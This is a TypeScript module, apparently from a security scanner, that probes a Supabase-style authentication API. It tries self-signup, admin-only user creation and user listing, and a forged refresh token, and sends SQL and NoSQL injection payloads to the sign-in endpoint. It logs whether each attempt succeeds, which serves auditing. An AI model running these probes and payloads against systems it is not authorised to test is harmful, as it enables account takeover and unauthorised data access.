import { randomUUID } from 'node:crypto';
import { exposed } from './tables';
import { ask, type Attempt, isDone, note, type Target } from './target';

/** Tries what an account of the attacker's own can access: nothing, even if one can be created. */
const tryAccount = async (target: Target, token: string): Promise<Attempt[]> => {
  const headers = { authorization: `Bearer ${token}` };
  const attempts: Attempt[] = [];
  for (const table of exposed) {
    const answer = await ask(target, 'GET', `/rest/v1/${table}?select=*&limit=1`, { headers });
    const hasRows = isDone(answer) && Array.isArray(answer.json) && answer.json.length > 0;
    attempts.push(note(`an account of one’s own reads ${table}`, answer, hasRows));
  }
  const admin = await ask(target, 'POST', '/rest/v1/rpc/is_admin', { headers, body: {} });
  return [...attempts, note('an account of one’s own is admin', admin, admin.json === true)];
};

/** Ways to get an account, or into other people's. */
export const attackAccounts = async (target: Target): Promise<Attempt[]> => {
  const attempts: Attempt[] = [];
  const email = `attack-${randomUUID()}@example.invalid`;
  const ways: [name: string, path: string, body: object][] = [
    ['sign up', '/auth/v1/signup', { email, password: randomUUID() }],
    ['sign up anonymously', '/auth/v1/signup', { data: {} }],
    ['sign up by a code', '/auth/v1/otp', { email, create_user: true }],
    ['sign up by a link', '/auth/v1/magiclink', { email }],
    ['invite oneself', '/auth/v1/invite', { email }],
    ['make an account as administrator', '/auth/v1/admin/users', { email, password: randomUUID() }],
    ['make a link as administrator', '/auth/v1/admin/generate_link', { type: 'magiclink', email }],
    ['sign in with a list', '/auth/v1/token?grant_type=password', { email: ['a'], password: { $ne: '' } }],
    ['sign in with SQL', '/auth/v1/token?grant_type=password', { email: `' or 1=1 --`, password: 'x' }],
    [
      'renew a token that was never given',
      '/auth/v1/token?grant_type=refresh_token',
      { refresh_token: randomUUID() },
    ],
    ['a second factor without an account', '/auth/v1/factors', { factor_type: 'totp' }],
  ];
  for (const [name, path, body] of ways) {
    const answer = await ask(target, 'POST', path, { body });
    attempts.push(note(name, answer, isDone(answer)));
    const { access_token: token } = (answer.json ?? {}) as { access_token?: string };
    if (isDone(answer) && token) attempts.push(...(await tryAccount(target, token)));
  }
  for (const method of ['OPTIONS', 'HEAD', 'PATCH', 'DELETE']) {
    const answer = await ask(target, method, '/auth/v1/token'); // hosted projects answer some: only an internal error is a hole
    attempts.push(note(`${method} of the sign-in`, answer, false));
  }
  const users = await ask(target, 'GET', '/auth/v1/admin/users');
  return [...attempts, note('list all accounts', users, isDone(users))];
};
